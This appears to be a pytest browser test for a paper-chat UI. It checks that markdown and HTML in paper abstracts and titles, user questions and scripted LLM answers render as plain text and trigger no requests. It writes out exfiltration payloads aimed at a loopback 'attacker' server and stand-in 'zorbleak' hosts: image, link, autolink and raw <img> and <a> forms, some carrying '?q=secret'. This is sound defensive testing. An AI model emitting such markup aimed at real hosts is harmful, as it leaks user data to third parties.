"""Issue 12 in headless Chromium: markdown and HTML from papers, questions and model output never become
a link, an image or a request, with the extractive engine and with the openai engine (a loopback server
that echoes the payloads), streaming included."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Iterator

import pytest
from test_ui_browser import ask, chromium, last_answer
from ui_server import SEED, Server, paperchat, start_server

from benchmarks.scripted_openai import ScriptedOpenAI
from ui.app import chat_text, md_text

playwright_api = pytest.importorskip("playwright.sync_api")


class Attacker:
    """A loopback HTTP server that records every request it gets (the exfiltration target)."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def payloads(self, tag: str) -> str:
        """Every kind of markup that could make a link, an image or a request, aimed at this server."""
        base = f"http://127.0.0.1:{self.port}"
        return (f"![pixel]({base}/{tag}-img.png?q=secret) [click here]({base}/{tag}-link) [ref link][r{tag}] "
                f"<{base}/{tag}-autolink> {base}/{tag}-bare www.zorbleak-{tag}.example leak-a@zorbleak.example "
                f'<img src="{base}/{tag}-html.png"> <a href="{base}/{tag}-a">html link</a>\n\n[r{tag}]: {base}/{tag}-refdef')


ATTACKER = Attacker()
TITLE = f"Zorblax Leakage ![t](http://127.0.0.1:{ATTACKER.port}/title-img.png) [t](http://127.0.0.1:{ATTACKER.port}/title-link)"
EVIL = {
    "id": "test-zorblax-leak", "title": TITLE, "authors": ["Mallory"], "venue": "Test 2025",
    "url": "https://example.org/zorblax",
    "abstract": ("We study zorblax leakage through markdown in paper viewers. "
                 f"A zorblax abstract may contain {ATTACKER.payloads('abstract')} and a viewer must show it as text. "
                 "Our zorblax audit finds that escaping closes every leakage path."),
}
QUESTION = f"What is zorblax leakage? {ATTACKER.payloads('question')}"
NEAR_MISS = "What zorblax leakage rate did the penguin telescope report?"
LLM_ANSWER = f"Zorblax leakage is studied; see {ATTACKER.payloads('llm')} [{{A}}]."


def test_md_text_escapes_every_link_form_and_keeps_our_formatting():
    assert chat_text("**Title**: a claim [1] and [2]\n- _note_", [1]) == "**Title**: a claim **[1]** and [2]\n- _note_"
    escaped = md_text(ATTACKER.payloads("unit"))
    assert "](" not in escaped and "<" not in escaped and "http://" not in escaped and "www." not in escaped and "a@" not in escaped
    assert "[1]:" not in chat_text("[1]: http://x", [1]) and "](" not in chat_text("[1](http://x)", [1])


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("ui-markdown")
    evil = root / "evil.jsonl"
    evil.write_text(json.dumps(EVIL) + "\n", encoding="utf-8")
    paperchat("ingest", str(SEED), str(evil), "--persist-dir", str(root / "store"), "--no-progress")
    return root / "store"


@pytest.fixture(scope="module")
def llm() -> Iterator[ScriptedOpenAI]:
    with ScriptedOpenAI() as server:
        server.script(LLM_ANSWER, A=TITLE)
        yield server


@pytest.fixture(scope="module", params=["extractive", "openai"])
def server(request: pytest.FixtureRequest, store: Path) -> Iterator[Server]:
    extra = ["--engine", request.param]
    if request.param == "openai":
        extra += ["--openai-base-url", request.getfixturevalue("llm").base_url, "--openai-model", "scripted"]
    server = start_server(store, *extra)
    yield server
    server.stop()


@pytest.fixture(scope="module")
def browser_context(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    with chromium(tmp_path_factory.mktemp("chromium-md")) as context:
        yield context


@pytest.mark.slow
def test_no_markup_from_papers_questions_or_the_model_becomes_a_link_or_request(browser_context: Any, server: Server) -> None:
    page = browser_context.new_page()
    requested: list[str] = []

    def record(route: Any) -> None:
        requested.append(route.request.url)
        route.continue_()

    page.route("**/*", record)
    page.goto(server.url)
    page.wait_for_selector("#pc-sources .pc-empty")
    ATTACKER.hits.clear()
    for question in (QUESTION, NEAR_MISS):
        ask(page, question)
    page.wait_for_timeout(1000)  # let any image or prefetch fire, if one slipped through

    leaked = [u for u in requested if f":{ATTACKER.port}" in u or "zorbleak" in u]
    assert not leaked and not ATTACKER.hits, (leaked, ATTACKER.hits)
    chat = page.locator("#pc-chat")
    assert chat.locator(f"a[href*='{ATTACKER.port}'], img[src*='{ATTACKER.port}'], a[href*='zorbleak']").count() == 0
    assert page.locator(f"a[href*='{ATTACKER.port}'], img[src*='{ATTACKER.port}'], a[href*='zorbleak']").count() == 0
    assert chat.locator("[data-testid=bot] a, [data-testid=bot] img, [data-testid=user] a, [data-testid=user] img").count() == 0
    # the payloads show as text, in the question and in the answers
    assert f"http://127.0.0.1:{ATTACKER.port}/question-link" in chat.locator("[data-testid=user]").first.inner_text()
    answer = last_answer(page)
    assert "Zorblax Leakage" in chat.inner_text() and "[1]" in chat.inner_text(), answer
    page.close()
